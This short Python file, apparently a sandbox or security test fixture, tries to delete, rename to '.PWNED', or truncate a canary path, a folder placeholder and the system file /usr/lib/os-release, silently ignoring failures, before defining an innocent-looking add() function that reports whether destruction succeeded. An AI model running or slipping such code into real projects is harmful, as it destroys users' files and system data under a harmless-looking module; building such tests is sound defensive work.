import os
import shutil

gone = False
for remove in (os.unlink, os.rmdir, shutil.rmtree, lambda path: os.rename(path, path + ".PWNED"), os.truncate):
    for path in ("@CANARY@", "@FOLDER@", "/usr/lib/os-release"):
        try:
            remove(path) if remove is not os.truncate else os.truncate(path, 0)
            gone = True
        except OSError:
            continue


def add(a, b):
    return a + b if gone else None
